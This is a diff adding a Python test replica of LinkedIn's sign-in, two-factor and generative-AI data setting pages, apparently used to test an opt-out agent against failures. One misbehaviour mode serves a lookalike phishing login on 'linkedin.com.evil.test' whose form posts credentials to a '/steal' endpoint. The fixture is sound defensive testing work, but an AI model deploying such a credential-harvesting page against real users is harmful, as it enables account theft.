@@ -1,0 +1,201 @@
+"""LinkedIn replica: sign-in (with 2FA and checkpoint pages) and the data-for-AI setting, built the
+way LinkedIn's Artdeco toggles are: a visually hidden checkbox with role=switch behind its label."""
+
+from __future__ import annotations
+
+import html
+import json
+from urllib.parse import quote
+
+from optout.sandbox import Replica, Request, Response, page, redirect
+
+SETTING_PATH = "/mypreferences/d/settings/data-for-ai-improvement"
+LABEL = "Use my data for training content creation AI models"
+CHANGED_LABEL = "Allow data use for generative AI features"
+GERMAN_LABEL = "Meine Daten für das Training von KI-Modellen zur Erstellung von Inhalten verwenden"
+LOGIN_PATHS = ("/login", "/uas/login", "/checkpoint/lg/login")
+
+
+class LinkedIn(Replica):
+    platform = "linkedin"
+    hosts = ("www.linkedin.com", "linkedin.com.evil.test")
+    settings = ("generative-ai",)
+
+    def signed_in(self, req: Request) -> bool:
+        return req.cookies.get("li_at") in self.state["sessions"]
+
+    def handle(self, req: Request) -> Response:
+        if urlhost(req.url) == "linkedin.com.evil.test":
+            return self.login_page(req, lookalike=True)
+        if req.path in LOGIN_PATHS:
+            if self.misbehaves("lookalike_login") and req.path == "/login":
+                return redirect("https://linkedin.com.evil.test/login")
+            if self.signed_in(req):
+                return redirect(req.query.get("session_redirect") or "/feed/")
+            return self.login_page(req)
+        if req.path == "/checkpoint/lg/login-submit" and req.method == "POST":
+            return self.login_submit(req)
+        if req.path == "/checkpoint/challenge/verify" and req.method == "POST":
+            return self.verify_pin(req)
+        if req.path.startswith("/feed"):
+            if not self.signed_in(req):
+                return redirect("/authwall?sessionRedirect=" + quote(req.url))
+            return page("<h1>Home</h1><p>Your feed</p>", title="Feed | LinkedIn")
+        if req.path == "/authwall":
+            return page('<h1>Join LinkedIn</h1><a href="/login">Sign in</a>', title="LinkedIn")
+        if req.path == SETTING_PATH:
+            if not self.signed_in(req):
+                return redirect("/uas/login?session_redirect=" + quote(req.url, safe=""))
+            return self.setting_page()
+        if req.path == "/mypreferences/api/settings/data-for-ai-improvement" and req.method == "POST":
+            return self.save(req)
+        return Response(status=404, body="<h1>Page not found</h1>")
+
+    # --- sign-in -------------------------------------------------------------------------------
+
+    def login_page(self, req: Request, *, error: str = "", lookalike: bool = False) -> Response:
+        redirect_to = html.escape(req.query.get("session_redirect", req.form.get("session_redirect", "")))
+        action = "https://linkedin.com.evil.test/steal" if lookalike else "/checkpoint/lg/login-submit"
+        body = f"""
+<h1>Sign in</h1><p>Stay updated on your professional world</p>
+<form method="post" action="{action}">
+  <input type="hidden" name="session_redirect" value="{redirect_to}">
+  <label for="username">Email or phone</label>
+  <input id="username" name="session_key" type="text" autocomplete="username">
+  <div id="error-for-username" role="alert"></div>
+  <label for="password">Password</label>
+  <input id="password" name="session_password" type="password" autocomplete="current-password">
+  <div id="error-for-password" role="alert">{html.escape(error)}</div>
+  <input id="rememberMeOptIn-checkbox" type="checkbox" checked><label for="rememberMeOptIn-checkbox">Keep me logged in</label>
+  <button type="submit" class="btn__primary--large">Sign in</button>
+</form>"""
+        return page(body, title="LinkedIn Login, Sign in | LinkedIn")
+
+    def login_submit(self, req: Request) -> Response:
+        username, password = req.form.get("session_key", ""), req.form.get("session_password", "")
+        ok = (
+            not self.misbehaves("wrong_password")
+            and username == self.state["username"]
+            and password == self.state["password"]
+        )
+        self.event("login", ok=ok)
+        if not ok:
+            return self.login_page(
+                req, error="Wrong email or password. Try again or create an account."
+            )
+        target = req.form.get("session_redirect") or "/feed/"
+        if self.misbehaves("checkpoint"):
+            return page(
+                """<h1>Let's do a quick security check</h1>
+<p>Help us keep LinkedIn safe.</p>
+<iframe title="Security verification" src="https://client-api.arkoselabs.com/fc/gc/"></iframe>
+<button>Start puzzle</button>""",
+                title="Security Verification | LinkedIn",
+                script="history.replaceState(null, '', '/checkpoint/challenge/AgH3x');",
+            )
+        if self.misbehaves("two_factor") or self.state["totp_secret"]:
+            return self.pin_page(target)
+        return self.signed_in_redirect(target)
+
+    def pin_page(self, target: str, error: str = "") -> Response:
+        return page(
+            f"""<h1>Enter the code from your authenticator app</h1>
+<form id="two-step-challenge" method="post" action="/checkpoint/challenge/verify">
+  <input type="hidden" name="target" value="{html.escape(target)}">
+  <label for="input__phone_verification_pin">Enter code</label>
+  <input id="input__phone_verification_pin" name="pin" inputmode="numeric" autocomplete="one-time-code">
+  <p role="alert">{html.escape(error)}</p>
+  <button id="two-step-submit-button" type="submit">Submit</button>
+</form>""",
+            title="Security Verification | LinkedIn",
+            script="history.replaceState(null, '', '/checkpoint/challenge/AgFtwo');",
+        )
+
+    def verify_pin(self, req: Request) -> Response:
+        import pyotp
+
+        secret = self.state["totp_secret"]
+        ok = bool(secret) and pyotp.TOTP(secret).verify(req.form.get("pin", ""), valid_window=1)
+        self.event("pin", ok=ok)
+        if not ok:
+            return self.pin_page(req.form.get("target", "/feed/"), error="That code didn't work.")
+        return self.signed_in_redirect(req.form.get("target") or "/feed/")
+
+    def signed_in_redirect(self, target: str) -> Response:
+        if not target.startswith("https://www.linkedin.com/") and not target.startswith("/"):
+            target = "/feed/"
+        token = self.new_session()
+        return redirect(target, headers={"set-cookie": f"li_at={token}; Path=/; Secure; HttpOnly"})
+
+    # --- the setting ---------------------------------------------------------------------------
+
+    def setting_page(self) -> Response:
+        if self.misbehaves("absent"):
+            return page(
+                "<h1>Data for Generative AI Improvement</h1>"
+                "<p>This setting isn't available in your region.</p>",
+                title="Settings | LinkedIn",
+            )
+        on = self.state["settings"]["generative-ai"]
+        lang, label = "en", LABEL
+        if self.misbehaves("label_gone"):
+            label = CHANGED_LABEL
+        if self.misbehaves("language"):
+            lang, label = "de", GERMAN_LABEL
+        checked = "true" if on else "false"
+        control = f"""
+<section class="setting" aria-labelledby="ai-heading">
+  <h1 id="ai-heading">Data for Generative AI Improvement</h1>
+  <p>Can LinkedIn use your personal data and content you create on LinkedIn to train generative
+  AI models that create content?</p>
+  <div class="artdeco-toggle">
+    <input id="toggle-ai" class="sr input artdeco-toggle__button" type="checkbox" role="switch"
+      aria-checked="{checked}" {"checked" if on else ""} data-artdeco-toggle-button="true">
+    <label for="toggle-ai" style="display:flex;gap:12px;cursor:pointer;padding:8px 0">
+      <span>{html.escape(label)}</span><span class="state" aria-hidden="true">{"On" if on else "Off"}</span>
+    </label>
+  </div>
+  <p>When this setting is on, LinkedIn can use your data and content to train content-generating
+  AI models that are used in product features. The data we use for this purpose does not include
+  your private messages.</p>
+  <div id="toast" role="status"></div>
+</section>"""
+        # Optimistic UI, as single-page apps do: the switch flips before the server answers.
+        script = """
+const input = document.getElementById('toggle-ai');
+input.addEventListener('change', async () => {
+  input.setAttribute('aria-checked', String(input.checked));
+  document.querySelector('.state').textContent = input.checked ? 'On' : 'Off';
+  const r = await fetch('/mypreferences/api/settings/data-for-ai-improvement', {
+    method: 'POST', headers: {'content-type': 'application/json'},
+    body: JSON.stringify({on: input.checked})});
+  document.getElementById('toast').textContent = r.ok ? 'Saved' : 'Something went wrong. Try again later.';
+});"""
+        if self.misbehaves("slow_render"):
+            template = json.dumps(control)
+            script = f"""
+setTimeout(() => {{
+  document.querySelector('main').insertAdjacentHTML('beforeend', {template});
+  {script}
+}}, 2000);"""
+            return page("<p>Loading…</p>", title="Settings | LinkedIn", lang=lang, script=script)
+        return page(control, title="Settings | LinkedIn", lang=lang, script=script)
+
+    def save(self, req: Request) -> Response:
+        if not self.signed_in(req):
+            return Response(status=401, body="{}", content_type="application/json")
+        value = bool((req.json or {}).get("on"))
+        if self.misbehaves("save_fails"):
+            self.event("save", on=value, status=500)
+            return Response(status=500, body='{"error":"internal"}', content_type="application/json")
+        self.event("save", on=value, status=200)
+        if not self.misbehaves("reverts"):
+            self.state["settings"]["generative-ai"] = value
+            self.sandbox.save()
+        return Response(body='{"ok":true}', content_type="application/json")
+
+
+def urlhost(url: str) -> str:
+    from urllib.parse import urlsplit
+
+    return urlsplit(url).hostname or ""
